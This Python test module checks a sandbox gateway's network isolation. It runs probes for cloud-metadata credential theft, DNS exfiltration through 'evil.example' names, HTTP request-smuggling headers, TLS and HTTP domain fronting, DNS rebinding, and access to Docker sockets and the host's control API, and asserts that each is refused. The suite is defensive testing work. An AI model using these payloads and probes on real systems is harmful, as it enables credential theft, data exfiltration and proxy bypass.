"""Attacks on the network: what may be reached beside what the policy lists."""

import contextlib
import secrets
import socket
from collections.abc import Iterator

from corral.testing.attack.arena import (
    ALLOWED,
    GATEWAY,
    OTHER,
    PUBLIC,
    Arena,
    Attack,
    SkippedError,
    expect,
    host_addresses,
    looked_for,
    status,
)

NXDOMAIN, REFUSED = 3, 5
_RCVBUFFORCE = 33
"""Python does not name it: a receive buffer beyond the usual limit, so that a busy host's packets all fit."""
METADATA = ("169.254.169.254", "169.254.170.2", "100.100.100.200", "168.63.129.16", "192.0.0.192")
_UNREACHED = {"ECONNREFUSED", "ConnectionRefusedError", "ENETUNREACH", "EHOSTUNREACH", "silence", "OSError"}
_LOCAL = ("127.0.0.1", "127.0.0.53", "0.0.0.0", GATEWAY, "172.17.0.1")  # noqa: S104 - addresses to try


def _host_services(arena: Arena) -> str:
    port, udp = arena.trap.tcp_port, arena.trap.udp_port
    addresses = (*host_addresses(), *_LOCAL)
    found = arena.net(
        arena.plain, *(("tcp", a, port) for a in addresses), *(("udp", a, udp) for a in addresses)
    )
    arena.untouched()
    expect(set(found) <= _UNREACHED, f"unexpected answers: {sorted(set(map(str, found)) - _UNREACHED)}")
    return f"the sandbox's namespace has no route: {len(found)} attempts refused by the kernel"


def _own_address_allowed(arena: Arena) -> str:
    port, own = arena.trap.tcp_port, host_addresses()[:4]
    answers = arena.net(arena.allowed, *(("http", a, port, f"{a}:{port}") for a in own))
    handshakes = arena.net(arena.allowed, *(("tls", a, port, None) for a in own))
    arena.untouched()
    expect({status(answer) for answer in answers} <= {403}, "the gateway dialled the host's own address")
    expect("ok" not in handshakes, "a TLS handshake with the host succeeded")
    return "the gateway dials no address of its own host, whatever a rule says"


def _metadata(arena: Arena) -> str:
    path, hosts = "/latest/meta-data/iam/security-credentials/", (*METADATA, "metadata.google.internal")
    answers = arena.net(arena.allowed, *(("http", a, 80, host, path) for a in METADATA for host in hosts))
    expect({status(answer) for answer in answers} <= {400, 403, 421}, "a metadata address answered")
    [named] = arena.net(arena.allowed, ("dns", GATEWAY, "metadata.google.internal"))
    expect(named.get("code") == NXDOMAIN, "a metadata name resolves")
    return f"never dialled, also where a rule allows it: {len(answers)} requests answered 403 or 421"


def _neighbour(arena: Arena) -> str:
    code = (
        "import socket\ns = socket.socket(); s.bind(('0.0.0.0', 7777)); s.listen(); s.settimeout(100)\n"
        "u = socket.socket(socket.AF_UNIX); u.bind('\\0neighbour'); u.listen()\n"
        "print('ready', flush=True)\ntry:\n    s.accept(); print('reached', flush=True)\nexcept OSError: pass\n"
    )
    server = arena.neighbour.spawn(["python3", "-c", code])
    next(iter(server.output()))
    places = (GATEWAY, "10.200.0.2", "10.200.0.3", "10.200.0.0", "127.0.0.1", "198.18.0.1", "10.200.0.6")
    found = arena.net(arena.plain, *(("tcp", a, 7777) for a in places), ("unix", "@neighbour"))
    server.kill()
    expect("ok" not in found and "reached" not in server.wait().stdout, "another sandbox was reached")
    return "each sandbox has namespaces of its own, joined to its gateway only"


def _ipv6(arena: Arena) -> str:
    found = arena.run(arena.plain, "sockets")["ipv6"]
    expect("ok" not in found.values(), f"reached by IPv6: {found}")
    return "no IPv6 address leads anywhere, mapped ones included"


def _no_udp(arena: Arena) -> str:
    targets = (*host_addresses(), PUBLIC, "8.8.8.8", GATEWAY)
    ports = (arena.trap.udp_port, 123, 443, 853, 51820)
    pings = arena.net(arena.plain, *(("ping", a) for a in targets))
    found = arena.net(arena.plain, *(("udp", a, port) for a in targets for port in ports))
    arena.untouched()
    expect("reply" not in [*pings, *found], "a datagram was answered")
    return "datagrams other than DNS go nowhere, and nothing forwards pings"


def _sockets(arena: Arena) -> str:
    found = arena.run(arena.plain, "sockets")
    plain = {socket.AF_UNIX, socket.AF_INET, socket.AF_INET6, socket.AF_NETLINK}
    expect(set(found["families"]) <= plain, f"families: {sorted(set(found['families']) - plain)}")
    odd = [kind for kind in found["internet"] if kind.startswith(("raw", "packet"))]
    expect(not odd, f"sockets that make packets: {odd}")
    return "seccomp and missing rights: no raw, packet, VSOCK, ALG, XDP, CAN or Bluetooth socket"


def _reconfigure(arena: Arena) -> str:
    changes = arena.run(arena.plain, "sockets")["changes"]
    expect(0 not in changes.values(), f"the network was changed: {changes}")
    return "adding an address or a route needs a right that root inside has not"


def _dns_exfiltration(arena: Arena) -> str:
    mark, control = f"x{secrets.token_hex(8)}", f"c{secrets.token_hex(8)}".encode()
    servers, kinds = (GATEWAY, "8.8.8.8", "1.1.1.1"), (1, 28, 16, 15, 2, 12, 33, 65, 255, 10, 6)
    questions: list[tuple[object, ...]] = [
        ("dns", server, f"{mark}.evil.example", kind) for server in servers for kind in kinds
    ]
    questions += [("dns", server, f"{mark}.evil.example", 1, True) for server in servers]
    with _wire() as packets:
        answers = arena.net(arena.allowed, *questions)
        arena.net(arena.allowed, ("dns", GATEWAY, f"{mark}.wild.example"))
        with socket.socket(type=socket.SOCK_DGRAM) as probe:  # to know that the wire is heard at all
            probe.sendto(control, ("127.0.0.1", 53))
    expect(
        {answer.get("code") for answer in answers} == {NXDOMAIN}, "a name that is not allowed was answered"
    )
    expect(not any(mark.encode() in packet for packet in packets), "the name left the host")
    heard = any(control in packet for packet in packets)
    seen = (
        "none left the host"
        if heard
        else "all answered as unknown (the host's interfaces could not be listened to)"
    )
    return f"the gateway answers itself, and forwards nothing: {len(questions)} questions, {seen}"


def _shut(handshake: object) -> bool:
    """Whether the gateway refused a handshake for what it asks: by an alert that says so, or by taking it itself to say why.
    Another alert tells that it went to look for a host.
    """
    text = str(handshake)
    if text.startswith("refused "):
        return not text.endswith(("unresolved", "unreachable"))
    return "ACCESS_DENIED" in text or "UNRECOGNIZED_NAME" in text


@contextlib.contextmanager
def _wire() -> Iterator[list[bytes]]:
    """All packets that leave or enter the host in this block, where one may listen to them."""
    packets: list[bytes] = []
    try:
        wire = socket.socket(socket.AF_PACKET, socket.SOCK_DGRAM, socket.htons(3))
    except (PermissionError, AttributeError):
        yield packets
        return
    with wire:
        wire.setsockopt(socket.SOL_SOCKET, _RCVBUFFORCE, 64 << 20)
        wire.settimeout(0)
        yield packets
        with contextlib.suppress(BlockingIOError):
            while True:
                packets.append(wire.recv(65536))


def _odd_questions(arena: Arena) -> str:
    deep = ".".join(["a"] * 60) + ".wild.example"
    transfer, long, text, other = arena.net(
        arena.allowed,
        ("dns", GATEWAY, "wild.example", 252), ("dns", GATEWAY, deep), ("dns", GATEWAY, "a.wild.example", 16),
        ("dns", GATEWAY, "a.wild.example", 65),
    )  # fmt: skip
    expect(transfer.get("code") == REFUSED, "a zone transfer was answered")
    expect(long.get("code") in (NXDOMAIN, REFUSED), "a name of 60 labels was answered")
    expect(not text.get("answers") and not other.get("answers"), "a TXT or HTTPS question had an answer")
    return "zone transfers refused, long names unknown, no TXT and HTTPS records"


def _rebinding(arena: Arena) -> str:
    name, port = socket.gethostname(), arena.trap.tcp_port
    try:
        address = socket.gethostbyname(name)
    except OSError:
        raise SkippedError(
            "this host does not know its own name, so none is at hand that leads to it"
        ) from None
    box = arena.extra(allow=(f"{name}:{port}", f"{name}:443"))
    place = arena.address_of(box, name)
    answer, handshake = arena.net(box, ("http", place, port, f"{name}:{port}"), ("tls", place, port, name))
    arena.untouched()
    expect(status(answer) in (403, 502) and handshake != "ok", f"an allowed name led to {address}")
    return f"what a name resolves to is checked at each connection: {name} is {address}, which is refused"


def _other_ports(arena: Arena) -> str:
    place = arena.address_of(arena.allowed, ALLOWED)
    ports = arena.net(arena.allowed, *(("tcp", place, port) for port in (22, 25, 465, 587, 3306, 8080)))
    expect(set(ports) == {"ECONNREFUSED"}, f"a port without a rule answered: {ports}")
    box = arena.extra(allow=(f"{ALLOWED}:443", f"{OTHER}:8443"))
    [handshake] = arena.net(box, ("tls", arena.address_of(box, ALLOWED), 8443, ALLOWED))
    expect(_shut(handshake), "another rule's port was open")
    return "the port is a part of the rule; the kernel refuses all that no rule names"


def _fronting_tls(arena: Arena) -> str:
    box = arena.allowed
    place, other = arena.address_of(box, ALLOWED), arena.address_of(box, OTHER)
    attempts = (
        (place, "evil.example"), (place, OTHER), (other, ALLOWED), (place, None), (GATEWAY, ALLOWED),
        (place, "gateway.corral"), (place, "api.anthropic.com"), (place, f"{ALLOWED}.evil.example"),
    )  # fmt: skip
    found = arena.net(box, *(("tls", address, 443, name) for address, name in attempts))
    expect(all(map(_shut, found)), f"a handshake was not refused for its name: {found}")
    return f"server name, rule and address connected to must be one: {len(found)} handshakes refused"


def _fronting_http(arena: Arena) -> str:
    box = arena.allowed
    place, other = arena.address_of(box, ALLOWED), arena.address_of(box, OTHER)
    answers = arena.net(
        box,
        ("http", place, 80, "evil.example"), ("http", place, 80, OTHER), ("http", other, 80, ALLOWED),
        ("http", GATEWAY, 80, ALLOWED), ("http", place, 80, f"{ALLOWED}:8443"), ("http", place, 80, "api.anthropic.com"),
        ("http", place, 80, ALLOWED, "http://evil.example/"), ("http", place, 80, "evil.example", f"http://{ALLOWED}/"),
        ("http", place, 80, ALLOWED, "evil.example:443", "", "CONNECT"), ("http", place, 80, f"evil.example@{ALLOWED}"),
        ("http", place, 80, ALLOWED, "/", f"Host: {OTHER}\r\n"), ("http", place, 80, "gateway.corral", "/policy"),
    )  # fmt: skip
    expect(
        {status(answer) for answer in answers} <= {400, 403, 405, 421}, "a request with another Host passed"
    )
    expect(not any(map(looked_for, answers)), "the gateway went to look for a host that was not meant")
    return f"Host, target and address connected to must be one: {len(answers)} requests refused"


def _smuggling(arena: Arena) -> str:
    place = arena.address_of(arena.allowed, ALLOWED)
    fields = (
        "Content-Length: 4\r\nTransfer-Encoding: chunked\r\n", "Content-Length: 4\r\nContent-Length: 5\r\n",
        "Transfer-Encoding: xchunked\r\n", "Transfer-Encoding: chunked, identity\r\n", "Content-Length: +4\r\n",
        "Content-Length : 4\r\n", "Transfer-Encoding : chunked\r\n", "X: a\r\n b: c\r\n", "X\0: a\r\n",
        "Content-Length: 0x4\r\n", "Transfer-Encoding: chunked\r\nTransfer-Encoding: chunked\r\n",
    )  # fmt: skip
    hidden = f"GET / HTTP/1.1\r\nHost: {OTHER}\r\n\r\n"
    texts = (f"POST / HTTP/1.1\r\nHost: {ALLOWED}\r\n{extra}\r\n0\r\n\r\n{hidden}" for extra in fields)
    for extra, answers in zip(
        fields, arena.net(arena.allowed, *(("raw", place, 80, text, 2) for text in texts)), strict=True
    ):
        statuses = [answer["status"] for answer in answers]
        expect(statuses in ([400], []), f"{extra!r} was answered {statuses}")
    return f"two framings, odd lengths, folded and split fields: {len(fields)} answered 400 once, then closed"


def _unmetered_models(arena: Arena) -> str:
    box = arena.extra(allow=("api.anthropic.com", "api.openai.com", "*"))
    names = ("api.anthropic.com", "api.openai.com")
    answers = arena.net(box, *(("dns", GATEWAY, name) for name in names))
    handshakes = arena.net(box, *(("tls", PUBLIC, 443, name) for name in names))
    expect({answer.get("code") for answer in answers} == {NXDOMAIN}, "a model API resolves")
    expect(all(map(_shut, handshakes)), "a model API was reached past the meter")
    return "model APIs are open through the metered service only, also where a rule says *"


def _nothing_without_policy(arena: Arena) -> str:
    answers = arena.net(
        arena.plain, ("dns", GATEWAY, "example.com"), ("http", PUBLIC, 80, "example.com"),
        ("tls", PUBLIC, 443, "example.com"), ("tcp", PUBLIC, 22),
    )  # fmt: skip
    expect(answers[0].get("code") == NXDOMAIN, "a name resolves without a rule")
    expect(status(answers[1]) == 403 and _shut(answers[2]), "a host answered without a rule")
    expect(answers[3] == "ECONNREFUSED", "a port answered without a rule")
    return "the default is no: unknown names, refused addresses, closed ports"


def _unix_sockets(arena: Arena) -> str:
    paths = (*arena.trap.paths, "/run/docker.sock", "/var/run/docker.sock", "/run/containerd/containerd.sock")
    inside = ("/run/corral/api.sock", f"/proc/1/root{arena.trap.paths[0]}")
    found = arena.net(arena.plain, *(("unix", path) for path in (*paths, *inside)), user="root")
    arena.untouched()
    expect("ok" not in found, f"a socket of the host was reached: {found}")
    return (
        "another root and another network namespace: neither files nor abstract names of the host are there"
    )


def _control_api(arena: Arena) -> str:
    hosts = (
        "localhost",
        "127.0.0.1",
        "corral",
        "gateway.corral",
        GATEWAY,
        "[::1]",
        "localhost:7070",
        "api.sock",
    )
    paths = ("/v1/sandboxes", "/v1/secrets", "/v1/config", "/v1/approvals", "/openapi.json", "/v1/health")
    answers = arena.net(arena.plain, *(("http", GATEWAY, 80, host, path) for host in hosts for path in paths))
    expect({status(answer) for answer in answers} <= {400, 403, 404, 421}, "the daemon's API answered")
    return (
        f"the daemon listens nowhere that a sandbox reaches: {len(answers)} requests refused by the gateway"
    )


ATTACKS = (
    Attack("no-policy", "G-2, G-298", "reach the world without a rule for it", _nothing_without_policy),
    Attack(
        "host-services", "G-6, G-10", "connect to services of the host on all its addresses", _host_services
    ),
    Attack("own-address", "G-63", "have a rule for the host's own address used", _own_address_allowed),
    Attack("metadata", "G-64", "read the cloud's metadata, by address, name and any Host", _metadata),
    Attack(
        "rebinding",
        "G-62, G-65",
        "reach the host by an allowed name that resolves to it (rebinding)",
        _rebinding,
    ),
    Attack("neighbour", "G-7", "connect to another sandbox", _neighbour),
    Attack("ipv6", "G-8", "go out by IPv6", _ipv6),
    Attack("datagrams", "G-300", "send datagrams and pings", _no_udp),
    Attack("raw-sockets", "G-300", "open raw, packet and other odd sockets", _sockets),
    Attack("routes", "G-3", "give oneself an address and a route", _reconfigure),
    Attack(
        "dns-exfiltration", "G-281, G-283", "carry data out in DNS names, to any resolver", _dns_exfiltration
    ),
    Attack("odd-questions", "G-285, G-286, G-287", "tunnel through odd DNS questions", _odd_questions),
    Attack("other-ports", "G-55", "use other ports of an allowed host", _other_ports),
    Attack(
        "fronting-tls",
        "G-47, G-50",
        "hide a destination behind an allowed one in TLS (fronting)",
        _fronting_tls,
    ),
    Attack(
        "fronting-http",
        "G-47, G-49",
        "hide a destination behind an allowed one in HTTP, CONNECT too",
        _fronting_http,
    ),
    Attack("smuggling", "G-76 to G-81", "smuggle a second request", _smuggling),
    Attack("model-hosts", "G-185", "call a model API past the meter", _unmetered_models),
    Attack("unix-sockets", "G-11", "reach unix sockets of the host", _unix_sockets),
    Attack("control-api", "G-9, G-11", "call the daemon's own API", _control_api),
)
